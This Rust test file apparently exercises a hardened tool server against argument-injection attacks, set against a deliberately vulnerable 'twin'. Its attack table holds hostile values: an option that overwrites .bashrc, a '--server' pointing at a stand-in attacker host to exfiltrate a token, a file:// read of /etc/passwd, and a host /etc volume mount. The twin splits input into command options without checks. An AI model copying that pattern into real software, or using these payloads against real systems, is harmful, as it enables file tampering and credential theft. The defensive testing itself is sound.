//! ARGV: a value becomes an option. CVE-2026-4270, which is filed under PATH, is one of them.
//!
//! The twin has no shell. It splits its command line at spaces, appends what it gets, and passes
//! on whatever options the caller names.

use std::{
    io,
    net::TcpListener,
    process::Command,
    time::{Duration, Instant},
};

use serde_json::{Value, json};

use crate::{
    ours::{Over, Running},
    report::{Attack, Played, Stopped},
    scene::Scene,
    tools::PROGRAM,
    twin,
    wire::{PATIENCE, Server},
};

/// The naive server; it works in its folder.
pub fn twin() {
    twin::over_stdio(|line| {
        twin::answer(&serde_json::from_str(line).ok()?, |tool, arguments| {
            let argument = |name: &str| arguments[name].as_str().unwrap_or_default();
            let mut words: Vec<String> = vec![tool.to_owned()];
            let mut program = PROGRAM;
            match tool {
                "describe" => {
                    let line = format!("{} {}", argument("kind"), argument("name"));
                    words.extend(line.split(' ').map(str::to_owned));
                    for (name, value) in arguments["flags"].as_object().into_iter().flatten() {
                        words.push(format!("--{name}={}", value.as_str().unwrap_or_default()));
                    }
                    let namespace = format!("-n {}", argument("namespace"));
                    words.extend(namespace.split(' ').map(str::to_owned));
                }
                "build" => {
                    let models = match &arguments["models"] {
                        Value::Array(models) => models.iter().filter_map(Value::as_str).collect(),
                        other => other.as_str().unwrap_or_default().split(' ').collect(),
                    };
                    words.extend(models_of(models));
                }
                "run_image" => {
                    for volume in arguments["volumes"].as_array().into_iter().flatten() {
                        words.push(format!("-v={}", volume.as_str().unwrap_or_default()));
                    }
                    words.push(argument("image").to_owned());
                }
                "list" => words.extend(["--filter".to_owned(), argument("filter").to_owned()]),
                "diff" => {
                    program = "/usr/bin/git";
                    words.push(argument("target").to_owned());
                }
                _ => return Err(io::Error::other("unknown tool")),
            }
            let output = Command::new(program).args(words).output()?;
            Ok(String::from_utf8_lossy(&output.stdout).into_owned())
        })
    });
}

fn models_of(models: Vec<&str>) -> impl Iterator<Item = String> {
    models.into_iter().map(str::to_owned)
}

pub fn attacks() -> Vec<Attack> {
    CALLS
        .iter()
        .map(|call| Attack::new(call.advisory, call.variant, call.words, || call.play()))
        .collect()
}

struct Call {
    advisory: &'static str,
    variant: &'static str,
    words: &'static str,
    tool: &'static str,
    /// `{out}` stands for the path of what is outside, `{evil}` for a server of the attacker's.
    arguments: &'static str,
    harm: Harm,
    control: &'static str,
}

enum Harm {
    /// The answer holds the secret.
    Leak,
    /// The answer says so.
    Says(&'static str),
    /// This file now exists outside.
    Made(&'static str),
    /// The server of the attacker's was sent the token.
    Sent,
}

impl Call {
    fn play(&self) -> Played {
        let twin = {
            let scene = scene();
            let evil = TcpListener::bind("127.0.0.1:0").unwrap();
            let mut twin = Server::start("twin argv", [""; 0], &scene);
            twin.initialize();
            let answer = twin.call(self.tool, self.arguments(&scene, &evil));
            self.harm
                .done(&scene, &answer, &evil, PATIENCE)
                .unwrap_or_else(|| panic!("the twin was not exploited: {answer}"))
        };
        let scene = scene();
        let evil = TcpListener::bind("127.0.0.1:0").unwrap();
        let mut ours = Running::start_as("ours tools", Over::Stdio, &scene, &json!({}));
        let (answer, caller) = ours.call(self.tool, self.arguments(&scene, &evil));
        let record = ours.refused_by(self.control);
        assert_eq!(record["target"], self.tool);
        let harm = self.harm.done(&scene, &answer, &evil, Duration::ZERO);
        assert_eq!(harm, None, "{answer}");
        // Nothing was started at all.
        assert!(!scene.root.join("calls").exists());
        assert!(!record.to_string().contains(&scene.outside("")), "{record}");
        ours.still_works();
        Played {
            transport: Over::Stdio.name(),
            twin,
            caller,
            stopped: Stopped::Refused(record),
        }
    }

    fn arguments(&self, scene: &Scene, evil: &TcpListener) -> Value {
        let out = scene.outside("");
        let evil = evil.local_addr().unwrap().to_string();
        let text = self.arguments.replace("{out}", out.trim_end_matches('/'));
        serde_json::from_str(&text.replace("{evil}", &evil)).unwrap()
    }
}

impl Harm {
    fn done(
        &self,
        scene: &Scene,
        answer: &Value,
        evil: &TcpListener,
        patience: Duration,
    ) -> Option<String> {
        let answer = answer.to_string();
        match self {
            Self::Leak => answer
                .contains(&scene.canary)
                .then(|| "sent the secret".to_owned()),
            Self::Says(words) => answer.contains(words).then(|| (*words).to_owned()),
            Self::Made(path) => std::path::Path::new(&scene.outside(path))
                .exists()
                .then(|| format!("wrote `{path}` outside its folder")),
            Self::Sent => {
                evil.set_nonblocking(true).unwrap();
                let begun = Instant::now();
                loop {
                    if let Ok((stream, _)) = evil.accept() {
                        stream.set_nonblocking(false).unwrap();
                        let sent = io::read_to_string(stream).unwrap();
                        return sent
                            .contains(&scene.canary)
                            .then(|| "sent its token to a server of the attacker's".to_owned());
                    }
                    if begun.elapsed() >= patience {
                        return None;
                    }
                    std::thread::sleep(Duration::from_millis(5));
                }
            }
        }
    }
}

/// The usual one, and a repository with a change.
fn scene() -> Scene {
    let scene = Scene::new();
    let git = |args: &[&str]| {
        let done = Command::new("/usr/bin/git")
            .args(args)
            .current_dir(&scene.root)
            .output()
            .unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    let who = ["-c", "user.name=n", "-c", "user.email=n@localhost"];
    git(&[&who[..], &["commit", "-q", "-m", "first"]].concat());
    scene
}

const CALLS: &[Call] = &[
    Call {
        advisory: "CVE-2025-68144",
        variant: "",
        words: "what to compare with is an option that writes a file",
        tool: "diff",
        arguments: r#"{ "target": "--output={out}/home/u/.bashrc" }"#,
        harm: Harm::Made("home/u/.bashrc"),
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-39884",
        variant: "address",
        words: "the name of a resource has a space and an option in it",
        tool: "describe",
        arguments: r#"{ "kind": "svc", "name": "my-db --address=0.0.0.0", "namespace": "default" }"#,
        harm: Harm::Says("listening on 0.0.0.0"),
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-39884",
        variant: "namespace",
        words: "a kind has a space and an option in it",
        tool: "describe",
        arguments: r#"{ "kind": "pod -n kube-system", "name": "x", "namespace": "default" }"#,
        harm: Harm::Says("in the namespace kube-system"),
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-47250",
        variant: "",
        words: "the caller names options, and one of them another server",
        tool: "describe",
        arguments: r#"{ "kind": "pod", "name": "x", "namespace": "default",
            "flags": { "server": "http://{evil}", "insecure-skip-tls-verify": "true" } }"#,
        harm: Harm::Sent,
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-61459",
        variant: "",
        words: "the name of a resource is an option that names another server",
        tool: "describe",
        arguments: r#"{ "kind": "pod", "name": "--server=http://{evil}", "namespace": "default" }"#,
        harm: Harm::Sent,
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-75603",
        variant: "",
        words: "the kind of a resource is an option that names another server",
        tool: "describe",
        arguments: r#"{ "kind": "--server=http://{evil}", "name": "x", "namespace": "default" }"#,
        harm: Harm::Sent,
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-44968",
        variant: "text",
        words: "a list is a text that is split at spaces, with an option in it",
        tool: "build",
        arguments: r#"{ "models": "my_model --profiles-dir {out}/etc" }"#,
        harm: Harm::Leak,
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-44968",
        variant: "list",
        words: "one element of a list is an option",
        tool: "build",
        arguments: r#"{ "models": ["my_model", "--profiles-dir={out}/etc"] }"#,
        harm: Harm::Leak,
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-55887",
        variant: "",
        words: "the label of an image names folders of the host",
        tool: "run_image",
        arguments: r#"{ "image": "x", "description": "x", "volumes": ["{out}/etc:/host"] }"#,
        harm: Harm::Leak,
        control: "validate/schema",
    },
    Call {
        advisory: "CVE-2026-4270",
        variant: "",
        words: "a value is the address of a file, which the program opens",
        tool: "list",
        arguments: r#"{ "filter": "file://{out}/etc/passwd" }"#,
        harm: Harm::Leak,
        control: "exec/argument",
    },
];
